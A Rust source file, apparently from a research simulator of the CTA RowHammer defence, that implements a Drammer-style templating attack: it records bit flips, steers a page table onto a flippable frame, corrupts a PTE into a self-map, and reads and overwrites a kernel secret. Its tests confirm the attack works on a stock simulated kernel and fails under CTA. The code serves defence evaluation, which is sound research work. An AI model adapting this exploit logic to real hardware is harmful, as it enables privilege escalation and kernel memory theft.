//! Deterministic RowHammer via memory templating (Drammer-style).
//!
//! Instead of spraying and praying, the attacker first **templates** its own
//! memory — hammering rows it owns and recording exactly which bits flip in
//! which direction — then **massages** physical memory so a *page table*
//! lands on a frame with a known, exploitable flip, and finally hammers
//! once, deterministically corrupting a chosen PTE into a self-map of its
//! own page table.
//!
//! The massage relies on two allocator behaviors the attacker can observe
//! or assume (both hold for the Linux buddy allocator and for ours):
//! contiguous allocation of a fresh arena, and lowest-address-first reuse
//! of freed frames.
//!
//! Under CTA the massage step is impossible: page tables are served from
//! `ZONE_PTP`, which the attacker can neither template (no access above the
//! low water mark) nor steer allocations into — so the templated frame is
//! never repopulated with a page table and the final hammer hits plain
//! data. This is the property that defeats Drammer (section 4,
//! Property (1)).

use cta_mem::{Pfn, PtLevel, PAGE_SIZE};
use cta_vm::{Access, Kernel, Pid, Pte, PteFlags, VirtAddr, VmError};

use crate::hammer::HammerDriver;
use crate::outcome::AttackOutcome;

const ARENA_VA: u64 = 0x4000_0000;

/// A templated flip the attacker recorded in its own memory.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Template {
    /// Arena page index of the victim page.
    pub page: u64,
    /// Would-be PTE slot within the page (bit / 64).
    pub entry: u64,
    /// Bit position within the 64-bit word.
    pub bit_in_word: u32,
    /// The flip sets the bit (`0→1`).
    pub sets_bit: bool,
}

/// Configuration of the templating attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TemplatingAttack {
    /// Arena size in pages (templated region; must fit one 2 MiB slot).
    pub arena_pages: u64,
    /// Maximum templates to try before giving up.
    pub max_attempts: usize,
    /// Flush the TLB and paging-structure caches before every probe
    /// (each virtual access and each hammer pass), the way Algorithm 1
    /// interleaves accesses with `invlpg`. Forces every translation to
    /// walk live DRAM, making the attack's DRAM traffic independent of
    /// the machine's translation-cache configuration.
    pub flush_per_probe: bool,
}

impl Default for TemplatingAttack {
    fn default() -> Self {
        TemplatingAttack { arena_pages: 192, max_attempts: 12, flush_per_probe: false }
    }
}

impl TemplatingAttack {
    /// Invalidates all translation caches before a probe when
    /// `flush_per_probe` is set, so the next access walks from CR3.
    fn probe_sync(&self, kernel: &mut Kernel) {
        if self.flush_per_probe {
            kernel.flush_tlb();
        }
    }

    /// Runs the attack as a fresh unprivileged process.
    ///
    /// # Errors
    ///
    /// Infrastructure errors only; attack-level failure is reported in the
    /// outcome.
    pub fn run(&self, kernel: &mut Kernel) -> Result<AttackOutcome, VmError> {
        let mut out = AttackOutcome::default();
        let t0 = kernel.now_ns();
        let flips0 = kernel.dram().stats().total_flips();
        let pid = kernel.create_process(false)?;
        let arena = VirtAddr(ARENA_VA);
        let arena_bytes = self
            .arena_pages
            .checked_mul(PAGE_SIZE)
            .ok_or(VmError::RangeOverflow { va: arena, pages: self.arena_pages })?;
        kernel.mmap_anonymous(pid, arena, arena_bytes, true)?;
        out.mappings_created = self.arena_pages;

        // --- Phase 1: template -----------------------------------------------
        let templates = self.template(kernel, pid, arena, &mut out)?;
        out.note(format!("templating found {} usable flips", templates.len()));
        if templates.is_empty() {
            // The templating phase itself hammered: account for its flips
            // even on the give-up path, or campaign totals drift from the
            // module's flip log (caught by `verify_flip_accounting`).
            out.flips_induced = kernel.dram().stats().total_flips() - flips0;
            out.sim_time_ns = kernel.now_ns() - t0;
            return Ok(out);
        }

        // --- Phases 2–4 per template: massage, hammer, exploit ---------------
        let mut region_seq = 0u64;
        let mut consumed: std::collections::HashSet<u64> = std::collections::HashSet::new();
        let mut tried_pages: std::collections::HashSet<u64> = std::collections::HashSet::new();
        let mut attempts = 0usize;
        for template in templates {
            if attempts >= self.max_attempts {
                break;
            }
            if !tried_pages.insert(template.page) {
                continue; // one attempt per victim page
            }
            attempts += 1;
            match self.attempt(
                kernel,
                pid,
                arena,
                template,
                &mut region_seq,
                &mut consumed,
                &mut out,
            ) {
                Ok(true) => break,
                Ok(false) => continue,
                Err(_) => continue,
            }
        }
        out.flips_induced = kernel.dram().stats().total_flips() - flips0;
        out.sim_time_ns = kernel.now_ns() - t0;
        Ok(out)
    }

    /// Hammers the arena and records `0→1` flips usable for a PTE attack.
    fn template(
        &self,
        kernel: &mut Kernel,
        pid: Pid,
        arena: VirtAddr,
        out: &mut AttackOutcome,
    ) -> Result<Vec<Template>, VmError> {
        let driver = HammerDriver::new();
        let mut templates = Vec::new();
        let zeros = vec![0u8; PAGE_SIZE as usize];
        // Victims need two arena pages of margin on each side; an arena of
        // four pages or fewer has no victim to template.
        for v in 2..self.arena_pages.saturating_sub(2) {
            let victim = arena.offset(v * PAGE_SIZE);
            // Probe the 0→1 direction: zero the page, double-sided hammer,
            // read back set bits. Earlier hammering may have corrupted our
            // own mappings (cleared W/P bits) — skip such pages, as a real
            // templating tool does.
            self.probe_sync(kernel);
            if kernel.write_virt(pid, victim, &zeros, Access::user_write()).is_err() {
                continue;
            }
            // Fresh refresh window so earlier hammering does not bleed in.
            let interval = kernel.dram().config().refresh_interval_ns;
            kernel.dram_mut().advance(interval);
            self.probe_sync(kernel);
            if driver.hammer_row_of(kernel, pid, arena.offset((v - 1) * PAGE_SIZE)).is_err()
                || driver.hammer_row_of(kernel, pid, arena.offset((v + 1) * PAGE_SIZE)).is_err()
            {
                continue;
            }
            out.rows_hammered += 2;
            let mut buf = vec![0u8; PAGE_SIZE as usize];
            self.probe_sync(kernel);
            if kernel.read_virt(pid, victim, &mut buf, Access::user_read()).is_err() {
                continue;
            }
            for (byte_idx, byte) in buf.iter().enumerate() {
                if *byte == 0 {
                    continue;
                }
                for bit in 0..8u32 {
                    if byte >> bit & 1 == 1 {
                        let bitpos = byte_idx as u64 * 8 + bit as u64;
                        let entry = bitpos / 64;
                        let bit_in_word = (bitpos % 64) as u32;
                        templates.push(Template { page: v, entry, bit_in_word, sets_bit: true });
                    }
                }
            }
        }
        // Keep only templates a PTE attack can use: the flip must hit the
        // frame field, the entry slot must leave room for lower file pages,
        // and the implied donor page w = v − 2^k must exist in the arena.
        templates.retain(|t| {
            if !(12..=51).contains(&t.bit_in_word) || t.entry == 0 || t.entry > 400 {
                return false;
            }
            let k = t.bit_in_word - 12;
            // k = 0 would free *adjacent* frames (donor next to victim),
            // which the buddy allocator coalesces into a larger block and
            // re-splits in a different order, breaking the massage. The
            // real Drammer has the same constraint in disguise (it works in
            // contiguous chunks); we simply skip bit-12 templates.
            if k == 0 || k >= 7 {
                return false;
            }
            let span = 1u64 << k;
            // Enough non-adjacent filler pages must exist below the donor.
            t.page > span + 2 && t.entry < (t.page - span) / 2
        });
        Ok(templates)
    }

    /// One massage + hammer + exploit attempt for a specific template.
    #[allow(clippy::too_many_arguments)]
    fn attempt(
        &self,
        kernel: &mut Kernel,
        pid: Pid,
        arena: VirtAddr,
        template: Template,
        region_seq: &mut u64,
        consumed: &mut std::collections::HashSet<u64>,
        out: &mut AttackOutcome,
    ) -> Result<bool, VmError> {
        let k = template.bit_in_word - 12;
        let v = template.page;
        let w = v - (1u64 << k); // donor page whose frame the PTE will hold
        let e = template.entry;
        let file_pages = e + 1;

        if consumed.contains(&v) || consumed.contains(&w) || consumed.contains(&(v + 1)) {
            out.note(format!("template page {v}: pages consumed by earlier attempt"));
            return Ok(false);
        }

        // Free exactly e pages below w, then w, then v — lowest-first reuse
        // places file page `e` on w's frame and the page table on v's frame.
        // Fillers are spaced two pages apart so no two freed frames are
        // buddies: coalescing would reorder the buddy allocator's reuse.
        let mut to_free: Vec<u64> = Vec::new();
        let mut idx = 1u64;
        while (to_free.len() as u64) < e && idx + 1 < w {
            // Keep v's upper aggressor mapped in the arena; the lower one
            // is either kept or re-owned through the file mapping below.
            if idx != v - 1 && idx != v + 1 && !consumed.contains(&idx) {
                to_free.push(idx);
            }
            idx += 2;
        }
        if (to_free.len() as u64) < e {
            out.note(format!("template page {v}: not enough donor pages below {w}"));
            return Ok(false);
        }
        to_free.push(w);
        to_free.push(v);
        for page in &to_free {
            kernel.munmap(pid, arena.offset(page * PAGE_SIZE), PAGE_SIZE)?;
            consumed.insert(*page);
        }

        // Massage: the new file takes the freed low frames (file page e on
        // w), and the fresh region's page table lands on v.
        let file = kernel.create_file(file_pages * PAGE_SIZE)?;
        *region_seq += 1;
        let region = VirtAddr(ARENA_VA + *region_seq * (2 << 20));
        kernel.mmap_file(pid, region, file, true)?;
        out.mappings_created += file_pages;

        // Hammer v's row from both neighbors. When k = 0 the donor page w
        // is the lower aggressor itself — re-owned via the file mapping.
        let lower_aggressor = if w == v - 1 {
            region.offset(e * PAGE_SIZE)
        } else {
            arena.offset((v - 1) * PAGE_SIZE)
        };
        let driver = HammerDriver::new();
        let interval = kernel.dram().config().refresh_interval_ns;
        kernel.dram_mut().advance(interval);
        self.probe_sync(kernel);
        if driver.hammer_row_of(kernel, pid, lower_aggressor).is_err()
            || driver.hammer_row_of(kernel, pid, arena.offset((v + 1) * PAGE_SIZE)).is_err()
        {
            out.note(format!("template page {v}: aggressors unavailable"));
            return Ok(false);
        }
        out.rows_hammered += 2;

        // Detect: region page e should now read as a page table (self-map).
        let window = region.offset(e * PAGE_SIZE);
        let mut buf = vec![0u8; PAGE_SIZE as usize];
        self.probe_sync(kernel);
        if kernel.read_virt(pid, window, &mut buf, Access::user_read()).is_err() {
            return Ok(false);
        }
        let max_pfn = kernel.dram().capacity_bytes() / PAGE_SIZE;
        let pte_like = buf
            .chunks_exact(8)
            .map(|c| Pte(u64::from_le_bytes(c.try_into().expect("8 bytes"))))
            .filter(|p| p.looks_like_user_pte(max_pfn))
            .count();
        if pte_like < 2 {
            out.note(format!(
                "template page {v}: flip did not fire (window still reads file data)"
            ));
            return Ok(false);
        }
        out.self_reference_found = true;
        out.note(format!(
            "template (page {v}, entry {e}, bit {}) produced a PTE self-map",
            template.bit_in_word
        ));

        // Exploit through the self-map: entry p of the table selects region
        // page p, so the attacker has an arbitrary-phys window immediately.
        let probe_entry = if e == 0 { 1u64 } else { 0 };
        let probe_va = region.offset(probe_entry * PAGE_SIZE);
        let (_, secret) = kernel.kernel_secret();
        for f in 0..max_pfn {
            let crafted = Pte::new(Pfn(f), PteFlags::user_data());
            self.probe_sync(kernel);
            if kernel
                .write_virt(
                    pid,
                    window.offset(probe_entry * 8),
                    &crafted.0.to_le_bytes(),
                    Access::user_write(),
                )
                .is_err()
            {
                return Ok(false);
            }
            kernel.flush_tlb();
            let mut probe = [0u8; 16];
            if kernel.read_virt(pid, probe_va, &mut probe, Access::user_read()).is_err() {
                continue;
            }
            if probe == secret {
                out.secret_read = true;
                out.note(format!("kernel secret read via templated self-map (frame {f})"));
                self.probe_sync(kernel);
                if kernel
                    .write_virt(pid, probe_va, b"PWNED-BY-TMPLT!!", Access::user_write())
                    .is_ok()
                {
                    out.secret_overwritten = true;
                }
                return Ok(true);
            }
        }
        Ok(false)
    }
}

// `PtLevel` is referenced in documentation comments above.
#[allow(unused_imports)]
use PtLevel as _PtLevelDocOnly;

#[cfg(test)]
mod tests {
    use super::*;
    use cta_core::verify::verify_system;
    use cta_core::SystemBuilder;
    use cta_dram::DisturbanceParams;

    fn builder(seed: u64, protected: bool) -> SystemBuilder {
        SystemBuilder::new(8 << 20)
            .ptp_bytes(512 * 1024)
            .seed(seed)
            .protected(protected)
            .disturbance(DisturbanceParams { pf: 0.004, ..DisturbanceParams::default() })
    }

    #[test]
    fn templating_succeeds_deterministically_on_stock_kernel() {
        let attack = TemplatingAttack::default();
        let mut successes = 0;
        for seed in 0..6u64 {
            let mut k = builder(seed, false).build().unwrap();
            let out = attack.run(&mut k).unwrap();
            if out.success() {
                successes += 1;
                assert!(out.self_reference_found);
                let report = verify_system(&k).unwrap();
                assert!(!report.is_clean());
            }
        }
        assert!(successes >= 1, "templating should succeed on some module");
    }

    #[test]
    fn templating_is_reproducible_for_a_fixed_module() {
        // Determinism claim: same module seed ⇒ same outcome.
        let attack = TemplatingAttack::default();
        let out1 = attack.run(&mut builder(1, false).build().unwrap()).unwrap();
        let out2 = attack.run(&mut builder(1, false).build().unwrap()).unwrap();
        assert_eq!(out1.success(), out2.success());
        assert_eq!(out1.self_reference_found, out2.self_reference_found);
    }

    #[test]
    fn templating_always_fails_under_cta() {
        let attack = TemplatingAttack::default();
        for seed in 0..6u64 {
            let mut k = builder(seed, true).build().unwrap();
            let out = attack.run(&mut k).unwrap();
            assert!(!out.success(), "seed {seed}: CTA breached:\n{out}");
            assert_eq!(verify_system(&k).unwrap().self_references().count(), 0);
        }
    }

    #[test]
    fn templating_under_cta_fails_at_placement_not_by_luck() {
        // Even when templates exist, no page table can land on a templated
        // (below-mark) frame: all PT pages stay above the mark.
        let mut k = builder(0, true).build().unwrap();
        let _ = TemplatingAttack::default().run(&mut k).unwrap();
        let mark = k.ptp_layout().unwrap().low_water_mark();
        for pid in k.pids() {
            for (pfn, _) in k.process(pid).unwrap().pt_pages() {
                assert!(pfn.addr().0 >= mark);
            }
        }
    }
}
